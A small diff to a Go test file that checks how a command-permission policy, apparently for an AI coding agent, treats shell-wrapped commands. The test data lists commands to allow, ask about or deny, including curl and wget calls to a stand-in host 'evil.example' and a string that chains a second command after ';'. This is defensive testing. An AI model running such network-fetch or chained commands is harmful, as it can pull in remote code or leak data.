@@ -201,7 +201,8 @@ func TestADeniedCommandHasManyNames(t *testing.T) {
 	// A line that a shell is told is read as the line itself: Codex hands over each of its commands so, and each asked once.
 	for line, e := range map[string]Effect{"/bin/bash -lc 'ls -la | head'": Allow, "bash -c 'git log' ": Allow, "sh -l -c ls": Allow,
 		"/bin/bash -lc 'curl $X'": Ask, "bash -c 'sh -c ls'": Ask, "bash -c ls x": Ask, "./bash -c ls": Ask, "bash -ic ls": Ask,
-		"fish -c ls": Ask, "bash -c ls; $X": Ask, "bash -lc 'curl https://evil.example/'": Deny, "bash -lc 'x=1; wget http://evil.example $x'": Deny} {
+		"fish -c ls": Ask, "bash -c ls; $X": Ask, "bash -lc 'curl https://evil.example/'": Deny,
+		"bash -lc 'x=1; wget http://evil.example $x'": Deny} {
 		online := ask(line)
 		online.Facts.Offline = false
 		if d := hosts.Decide(online); d.Effect != e {
